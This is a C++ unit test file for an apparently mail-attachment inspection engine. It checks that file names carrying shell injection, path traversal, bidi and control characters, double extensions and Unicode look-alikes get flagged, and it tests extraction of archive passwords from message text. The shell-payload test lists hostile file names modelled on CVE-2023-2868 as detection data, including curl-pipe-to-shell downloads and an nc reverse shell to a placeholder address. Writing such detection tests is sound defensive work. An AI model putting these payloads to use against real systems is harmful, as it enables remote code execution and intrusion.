// File-name checks (names.cc) and password harvesting (passwords.cc): the CVE-2023-2868
// payloads and their relatives are exploits, real-world names are not.
#include <gtest/gtest.h>

#include <memory>
#include <string>
#include <vector>

#include "inspect/engines.h"
#include "inspect/inspect.h"
#include "inspect/names.h"
#include "inspect/passwords.h"

namespace bi = bulwark::inspect;

namespace {

const bi::Engines& engines() {
  static const std::unique_ptr<bi::Engines> e = [] {
    auto r = bi::Engines::load(bulwark::InspectConfig{});
    if (!r) {
      ADD_FAILURE() << r.error().message;
      std::abort();
    }
    return std::move(r).value();
  }();
  return *e;
}

struct Checked {
  std::vector<std::string> symbols;
  std::vector<std::string> threats;
  bool has_symbol(std::string_view s) const {
    for (const auto& x : symbols)
      if (x == s) return true;
    return false;
  }
  bool has_threat(std::string_view s) const {
    for (const auto& x : threats)
      if (x == s) return true;
    return false;
  }
  std::string dump() const {
    std::string out;
    for (const auto& s : symbols) out += " symbol:" + s;
    for (const auto& t : threats) out += " threat:" + t;
    return out;
  }
};

Checked check(std::string_view name, bi::NameOrigin origin = bi::NameOrigin::kAttachment) {
  static const bulwark::InspectLimits limits;
  bi::Inspector insp(engines(), limits);
  const bi::Blob where{"", "1", {std::string(name)}, "", 0};
  bi::check_name(where, name, origin, insp);
  Checked c;
  for (const auto& f : insp.results().symbols) {
    c.symbols.push_back(f.symbol);
    EXPECT_EQ(f.location, "1");
  }
  for (const auto& t : insp.results().threats) {
    c.threats.push_back(t.name);
    EXPECT_EQ(t.kind, "exploit");
  }
  return c;
}

constexpr bi::NameOrigin kMember = bi::NameOrigin::kArchiveMember;

// Published and derived CVE-2023-2868 style payloads: exploits as attachment names and as
// member names.
TEST(CheckName, ShellPayloadsAreExploits) {
  const std::vector<std::string> payloads = {
      "'`echo aGVsbG8= | base64 -d | sh`'.tar",
      "'`openssl aes-256-cbc -d -in /tmp/x -k k -md md5 | sh`'.tar",
      "'`abcdef`'",
      "`id`",
      "$(curl x|sh).txt",
      "'$(curl -s http://203.0.113.7/x|sh)'.txt",
      "$(reboot)",
      "${IFS}",
      "a;wget x;.txt",
      "a; curl http://x/y | bash",
      "report.pdf;sh",
      "x|sh",
      "x | /bin/sh",
      "a&&busybox telnetd",
      "a||nc -e /bin/sh 198.51.100.1 4444",
      "name;${IFS}sh${IFS}-c${IFS}id",
      "x;echo${IFS}hi>/tmp/x",
      "a;echo hi",
      "a >/etc/passwd",
      "a 2>&1",
      "x <(id)",
      "line\nbreak.txt",
      "cr\rreturn.txt",
      "--checkpoint-action=exec=sh x.sh",
      "--use-compress-program=sh",
      "-rf",
      "-oProxyCommand=sh x",
  };
  for (const std::string& p : payloads) {
    EXPECT_TRUE(check(p).has_threat("EXPLOIT_SHELL_IN_FILENAME")) << p;
    EXPECT_TRUE(check(p, kMember).has_threat("EXPLOIT_SHELL_IN_FILENAME")) << p;
  }
}

// Names as people really write them, in attachments and inside archives: no exploit, and
// for plain document names no symbol at all.
TEST(CheckName, RealWorldNamesAreClean) {
  const std::vector<std::string> names = {
      "Tom's report.pdf",
      "Q&A.docx",
      "Terms & Conditions.pdf",
      "AT&T bill March.pdf",
      "P&L 2023 (final).xlsx",
      "Smith; Jones - contract.pdf",
      "Price $5 draft.xlsx",
      "Revenue $(000) by region.xlsx",  // "$(" then a digit: no command
      "R&D | plan 2024.txt",
      "\"Quoted\" title.doc",
      "invoice #1234.pdf",
      "scan_2024-01-01_12.30.45.jpg",
      "Copy of - notes.txt",
      "- Copy.docx",
      "-draft-.docx",
      "résumé.pdf",
      "Отчёт за квартал.docx",
      "報告書.pdf",
      "تقرير.pdf",
      "קובץ.pdf",
      "photo 1 (2).HEIC",
      "archive.tar.gz",
      "backup.pdf.zip",
      "report.v2.final.pdf",
      "Don`t forget.pdf",  // one backtick: a syntax error in any shell, nothing runs
      "100% done.txt",
      "a = b + c.txt",
      "meeting @ 10am.ics",
      "[draft] plan {v2}.docx",
      "hello world!.txt",
      "C++ notes.txt",
      "1. intro.md",
      "...and more.txt",
      "Cats & dogs.png",
      "Salt & pepper; recipes.pdf",
  };
  for (const std::string& n : names) {
    for (bi::NameOrigin o : {bi::NameOrigin::kAttachment, kMember}) {
      const Checked c = check(n, o);
      EXPECT_TRUE(c.threats.empty()) << n << c.dump();
      EXPECT_TRUE(c.symbols.empty()) << n << c.dump();
    }
  }
}

TEST(CheckName, TraversalAndAbsolutePaths) {
  for (const char* n :
       {"../x", "..\\x", "a/../../b", "a\\..\\..\\b", "%2e%2e/x", "..%2fx", "%2E%2E%5Cwin.ini",
        "x/%2e%2e/%2e%2e/y", "%c0%ae%c0%ae/x", "a/.../b", "a/.. /b", ".."}) {
    EXPECT_TRUE(check(n, kMember).has_threat("EXPLOIT_PATH_TRAVERSAL")) << n;
    EXPECT_TRUE(check(n).has_threat("EXPLOIT_PATH_TRAVERSAL")) << n;
  }
  for (const char* n : {"..foo.txt", "a..b.txt", "x/..y/z", "v1..2.pdf"})
    EXPECT_FALSE(check(n, kMember).has_threat("EXPLOIT_PATH_TRAVERSAL")) << n;

  for (const char* n : {"/etc/passwd", "\\Windows\\x.dll", "\\\\server\\share\\x.exe",
                        "//server/share/x", "C:\\Windows\\x.dll", "c:/x.txt", "%2fetc%2fpasswd"})
    EXPECT_TRUE(check(n, kMember).has_threat("EXPLOIT_ABSOLUTE_PATH")) << n;
  // Mail clients that put the local path in the filename parameter: a reader takes the last
  // component, so in an attachment a drive path is no exploit.
  EXPECT_FALSE(check("C:\\Users\\bob\\Documents\\report.pdf").has_threat("EXPLOIT_ABSOLUTE_PATH"));
  EXPECT_TRUE(check("/etc/passwd").has_threat("EXPLOIT_ABSOLUTE_PATH"));
  EXPECT_TRUE(check("\\\\server\\share\\x").has_threat("EXPLOIT_ABSOLUTE_PATH"));
  EXPECT_FALSE(check("docs/readme.txt", kMember).has_threat("EXPLOIT_ABSOLUTE_PATH"));
}

TEST(CheckName, BidiAndControl) {
  EXPECT_TRUE(check("invoice\xE2\x80\xAE"
                    "fdp.exe")
                  .has_symbol("FILE_NAME_BIDI"));
  for (const char* n : {"a\xE2\x80\xAA"
                        "b",
                        "a\xE2\x80\xAB"
                        "b",
                        "a\xE2\x80\xAC"
                        "b",
                        "a\xE2\x80\xAD"
                        "b",
                        "a\xE2\x81\xA6"
                        "b",
                        "a\xE2\x81\xA9"
                        "b",
                        "a\xE2\x80\x8E"
                        "b",
                        "a\xE2\x80\x8F"
                        "b",
                        "a\xD8\x9C"
                        "b"})
    EXPECT_TRUE(check(n).has_symbol("FILE_NAME_BIDI")) << n;
  EXPECT_FALSE(check("تقرير.pdf").has_symbol("FILE_NAME_BIDI"));  // RTL text, no controls
  for (const char* n : {"a\x01"
                        "b.txt",
                        "a\tb.txt",
                        "a\x7f"
                        "b",
                        "a\xC2\x85"
                        "b"})
    EXPECT_TRUE(check(n).has_symbol("FILE_NAME_CONTROL")) << n;
  EXPECT_TRUE(check(std::string("a\0b.txt", 7)).has_symbol("FILE_NAME_CONTROL"));
}

TEST(CheckName, Extensions) {
  for (const char* n :
       {"x.exe",          "X.EXE", "run.exe.", "run.exe ",  "a.scr",     "a.js",      "a.hta",
        "a.lnk",          "a.iso", "a.img",    "a.vhdx",    "a.one",     "a.ps1",     "a.vbs",
        "a.wsf",          "a.jar", "a.msi",    "a.cpl",     "a.xll",     "a.docm",    "a.xlsm",
        "a.appinstaller", "a.chm", "a.sh",     "a.command", "a.desktop", "dir/x.bat", "dir\\x.cmd"})
    EXPECT_TRUE(bi::dangerous_extension(n)) << n;
  for (const char* n : {"x.pdf", "x.docx", "x.xlsx", "x.txt", "x.zip", "x.jpg", "exe", "x.exe.pdf",
                        "x", "", ".", "x.exe/", "x.json", "x.js.map", "x.one.txt"})
    EXPECT_FALSE(bi::dangerous_extension(n)) << n;
  EXPECT_TRUE(check("a.exe").has_symbol("FILE_DANGEROUS_EXT"));

  for (const char* n : {"invoice.pdf.exe", "invoice.PDF.scr", "invoice.pdf                 .exe",
                        "photo.jpg\xE3\x80\x80\xE3\x80\x80\xE3\x80\x80\xE3\x80\x80\xE3\x80\x80.scr",
                        "doc.docx.js", "statement.pdf.html"})
    EXPECT_TRUE(check(n).has_symbol("FILE_NAME_DOUBLE_EXT")) << n;
  // Padding alone hides an executable extension too.
  EXPECT_TRUE(
      check("holiday photos                              .exe").has_symbol("FILE_NAME_DOUBLE_EXT"));
  for (const char* n : {"archive.tar.gz", "backup.pdf.zip", "report.v2.pdf", "setup.exe",
                        "my.file.name.docx", "a.pdf.txt", "jquery.min.js"})
    EXPECT_FALSE(check(n).has_symbol("FILE_NAME_DOUBLE_EXT")) << n;
}

TEST(CheckName, LongAndUnicodeTricks) {
  EXPECT_TRUE(check(std::string(300, 'a') + ".pdf").has_symbol("FILE_NAME_LONG"));
  EXPECT_FALSE(check(std::string(200, 'a') + ".pdf").has_symbol("FILE_NAME_LONG"));
  for (const char* n : {"invoice\xEF\xBC\x8E"
                        "pdf",
                        "doc\xE2\x80\xA4"
                        "exe",
                        "file.p\xD0\xB4"
                        "f",
                        "invoice.\xD0\xB5xe",
                        "x\xEF\xB9\x92"
                        "js"})
    EXPECT_TRUE(check(n).has_symbol("FILE_NAME_UNICODE_TRICK")) << n;
  for (const char* n : {"Отчёт.docx", "報告書.pdf", "résumé.pdf", "a\xE2\x80\xA4\xE2\x80\xA4.txt"})
    EXPECT_FALSE(check(n).has_symbol("FILE_NAME_UNICODE_TRICK")) << n;
}

TEST(CheckName, HostileBytesNeverCrash) {
  std::string all;
  for (int i = 0; i < 256; ++i) all += static_cast<char>(i);
  check(all);
  check(all, kMember);
  check(std::string(100000, '`'));
  check(std::string(100000, '$'));
  check(std::string("\xE2\x80", 2));
  check(std::string("\xF0\x9F", 2));
  check("");
}

TEST(FindPasswords, Phrasings) {
  const std::string text =
      "Hello,\n"
      "Password: infected\n"
      "Pass - 1234\n"
      "pwd: \"q w\"\n"
      "PW: 'S3cr3t!'\n"
      "The password is: letmein.\n"
      "Passwort: Geheim99\n"
      "contraseña: clave\n"
      "mot de passe : motdp\n"
      "senha: senha1\n"
      "пароль: parol\n"
      "Пароль: Parol2\n"
      "Код: 4455\n"
      "密码：mima88\n"
      "Archive password\n"
      "\n"
      "  ZX-77  \n"
      "passport: 55555\n"
      "bypass: nope\n";
  const auto pw = bi::find_passwords(text, 32);
  const std::vector<std::string> want = {"infected", "1234",  "q",      "S3cr3t!", "letmein",
                                         "Geheim99", "clave", "motdp",  "senha1",  "parol",
                                         "Parol2",   "4455",  "mima88", "ZX-77"};
  for (const auto& w : want) EXPECT_NE(std::find(pw.begin(), pw.end(), w), pw.end()) << w;
  for (const char* no : {"55555", "nope", "port", "Hello,"})
    EXPECT_EQ(std::find(pw.begin(), pw.end(), no), pw.end()) << no;
}

TEST(FindPasswords, DedupeCapAndScale) {
  EXPECT_EQ(bi::find_passwords("password: a\npassword: a\npassword: b\n", 16),
            (std::vector<std::string>{"a", "b"}));
  std::string many;
  for (int i = 0; i < 100; ++i) many += "password: p" + std::to_string(i) + "\n";
  EXPECT_EQ(bi::find_passwords(many, 16).size(), 16u);
  EXPECT_TRUE(bi::find_passwords(many, 0).empty());
  EXPECT_TRUE(bi::find_passwords("", 16).empty());
  EXPECT_TRUE(bi::find_passwords("password:", 16).empty());
  // Linear: 8 MB of keyword soup on one line and on many lines.
  std::string soup;
  while (soup.size() < (8u << 20)) soup += "pass pw pwd password ";
  EXPECT_LE(bi::find_passwords(soup, 16).size(), 16u);
  std::string lines;
  while (lines.size() < (8u << 20)) lines += "password\n";
  EXPECT_LE(bi::find_passwords(lines, 16).size(), 16u);
}

}  // namespace
